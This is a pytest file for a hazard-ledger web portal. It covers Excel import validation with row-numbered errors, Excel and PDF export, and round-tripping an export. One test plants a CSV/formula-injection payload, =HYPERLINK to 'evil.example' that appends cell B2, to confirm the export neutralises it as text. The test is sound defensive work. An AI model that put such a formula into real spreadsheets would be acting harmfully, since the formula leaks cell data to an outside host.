"""Excel import all or nothing, with row numbers; Excel and PDF export through the exports
pipeline; an exported sheet imports again."""
import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select

from portal.audit.models import AuditEvent
from portal.hazards import service
from portal.hazards.models import Hazard
from tests.conftest import login, post
from tests.hazards.conftest import TODAY, acting


def workbook(rows, header=None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header or list(service.COLUMNS.values()))
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def row(enterprise, **change):
    values = {"credit_code": enterprise.credit_code, "level": "重大", "source": "企业自查", "item": "HC2017-05",
              "description": "储罐区报警器失效", "location": "二号罐区", "found_at": date(2024, 5, 10),
              "on_the_spot": "否", "fix_owner": "张三", "fix_measures": "更换", "fix_funds": 2.5,
              "fix_deadline": "2024-07-31", "fix_contingency": "停用罐区"}
    values.update(change)
    return [values[k] for k in service.COLUMNS]


def _count(session):
    return session.execute(select(func.count()).select_from(Hazard)).scalar_one()


def test_a_good_sheet_imports_every_row(session, people):
    t = people["tree"]
    data = workbook([row(t["a_plant"]), [], row(t["a_plant"], level="一般", item="", fix_owner="", fix_measures="",
                                                  fix_funds=None, fix_deadline=None, fix_contingency="",
                                                  description="配电箱未接地")])
    created = service.import_ledger(people["street"], data, today=TODAY)
    assert [h.description for h in created] == ["储罐区报警器失效", "配电箱未接地"]
    assert created[0].fix_deadline == date(2024, 7, 31) and created[0].standard_item.code == "HC2017-05"
    assert created[1].level == "general" and not created[1].has_fixes
    assert {h.source for h in created} == {"self"}  # as the sheet says
    events = session.execute(select(AuditEvent).where(AuditEvent.action == "hazard.recorded")).scalars().all()
    assert len(events) == 2 and all(e.data["imported"] for e in events)


def test_one_bad_row_refuses_the_whole_file_and_names_every_bad_row(session, people):
    t = people["tree"]
    data = workbook([
        row(t["a_plant"]),
        row(t["a_plant"], fix_deadline="2024-05-01"),  # row 3
        row(t["a_plant"], level="很大"),  # row 4
        row(t["b_shop"]),  # row 5: 乙区
        row(t["a_plant"], found_at="2024-13-45"),  # row 6
        row(t["a_plant"], fix_funds="-3"),  # row 7
        row(t["a_plant"], item="GM2023-03.1"),  # row 8: not a chemical plant's standard
        row(t["a_plant"], source="举报"),  # row 9
    ])
    with pytest.raises(service.ImportRejected) as refused, acting(people["street"]):
        service.import_ledger(people["street"], data, today=TODAY)
    assert refused.value.rows == [
        "第 3 行：整改期限（2024-05-01）不能早于发现日期（2024-05-10）。",
        "第 4 行：隐患级别只能填“重大”或“一般”。",
        f"第 5 行：统一社会信用代码“{t['b_shop'].credit_code}”不是您管辖范围内已登记的企业。",
        "第 6 行：发现日期“2024-13-45”不是有效日期，请写成 2024-03-15。",
        "第 7 行：整改资金不能为负数。",
        "第 8 行：所选判定依据条款不适用于该企业所属行业。",
        "第 9 行：隐患来源只能填“企业自查”或“部门检查”（举报须经举报核查登记）。",
    ]
    assert "没有写入任何数据" in str(refused.value)
    assert _count(session) == 0


def test_an_enterprise_imports_only_its_own_self_found_hazards(session, people):
    t = people["tree"]
    data = workbook([row(t["a_plant"]), row(t["a_shop"], item=""), row(t["a_plant"], source="部门检查")])
    with pytest.raises(service.ImportRejected) as refused, acting(people["plant"]):
        service.import_ledger(people["plant"], data, today=TODAY)
    assert [r.split("：")[0] for r in refused.value.rows] == ["第 3 行", "第 4 行"]


@pytest.mark.parametrize("data, message", [
    (b"%PDF-1.7 not a sheet", "不是 Excel 工作簿"),
    (b"PK\x03\x04 broken zip", "无法读取该 Excel 文件"),
    (None, "缺少列：统一社会信用代码"),
])
def test_not_an_excel_file_or_not_the_template(session, people, data, message):
    data = data or workbook([["x"]], header=["名称", "隐患描述", "隐患级别", "发现日期"])
    with pytest.raises(service.HazardError, match=message):
        service.import_ledger(people["street"], data, today=TODAY)


def test_import_over_http(client, session, people):
    t = people["tree"]
    login(client, people["street"].user)
    template = client.get("/hazards/import/template.xlsx")
    assert template.status_code == 200 and load_workbook(io.BytesIO(template.data)).active["A1"].value == "统一社会信用代码"
    r = post(client, "/hazards/import", {"file": (io.BytesIO(b"hello"), "台账.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 422 and "不是 Excel 工作簿" in r.get_data(as_text=True)
    bad = workbook([row(t["a_plant"]), row(t["a_plant"], level="")])
    r = post(client, "/hazards/import", {"file": (io.BytesIO(bad), "台账.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 422 and "第 3 行：隐患级别" in r.get_data(as_text=True) and _count(session) == 0
    good = workbook([row(t["a_plant"], found_at="2024/5/10"), row(t["a_plant"], found_at="2024年5月11日")])
    r = post(client, "/hazards/import", {"file": (io.BytesIO(good), "台账.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 302 and _count(session) == 2


def _export(client, file_type, query=""):
    r = post(client, f"/hazards/export{query}", {"file_type": file_type})
    assert r.status_code == 303, r.get_data(as_text=True)
    return client.get(r.headers["Location"] + "." + file_type)


def test_excel_export_lists_the_filtered_ledger_and_imports_again(client, session, people, make_hazard):
    t = people["tree"]
    major = make_hazard(description="报警器失效")
    make_hazard(level="general", description="配电箱未接地")
    login(client, people["district"].user)
    download = _export(client, "xlsx", "?level=major")
    assert download.status_code == 200 and download.mimetype == service.XLSX
    book = load_workbook(io.BytesIO(download.data))
    sheet = book["隐患台账"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["隐患编号", "企业名称", "状态"] and "判定依据条款编号" in header
    assert sheet.max_row == 2 and sheet["A2"].value == major.id and sheet["B2"].value == "甲化工厂"
    about = {r[0].value: r[1].value for r in book["说明"].iter_rows()}
    assert about["筛选条件"] == "重大事故隐患" and len(about["校验码"]) == 20
    # The same file is a valid import: the ledger moves between systems without retyping.
    created = service.import_ledger(people["street"], download.data, today=date.today())
    assert [h.description for h in created] == ["报警器失效"] and created[0].tenant_id == t["a_plant"].id


def test_text_that_looks_like_a_formula_exports_as_text(client, session, people, make_hazard):
    typed = '=HYPERLINK("http://evil.example/?d="&B2,"查看整改照片")'
    make_hazard(description=typed)
    make_hazard(description="-1+2 号罐区液位计失灵", level="general")
    login(client, people["district"].user)
    download = _export(client, "xlsx")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(download.data)).read("xl/worksheets/sheet1.xml")
    cells = {c.value: c for row in load_workbook(io.BytesIO(download.data))["隐患台账"].iter_rows() for c in row}
    for text in (typed, "-1+2 号罐区液位计失灵"):
        # Reads exactly as typed, stored as text with Excel's quote-prefix mark: never evaluated.
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


def test_pdf_export_is_laid_out_with_the_rows(client, session, people, make_hazard, monkeypatch):
    make_hazard(description="报警器失效")
    login(client, people["district"].user)
    download = _export(client, "pdf")
    assert download.status_code == 200 and download.mimetype == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(download.data)).pages).replace("\n", "")
    assert "甲区隐患台账" in text and "报警器失效" in text and "甲化工厂" in text
    monkeypatch.setattr(service, "PDF_MAX_ROWS", 0)
    r = post(client, "/hazards/export", {"file_type": "pdf"})
    assert r.status_code == 422 and "PDF 最多 0 条" in r.get_data(as_text=True)
    r = post(client, "/hazards/export?q=没有这样的隐患", {"file_type": "xlsx"})
    assert r.status_code == 422 and "没有符合条件的隐患" in r.get_data(as_text=True)
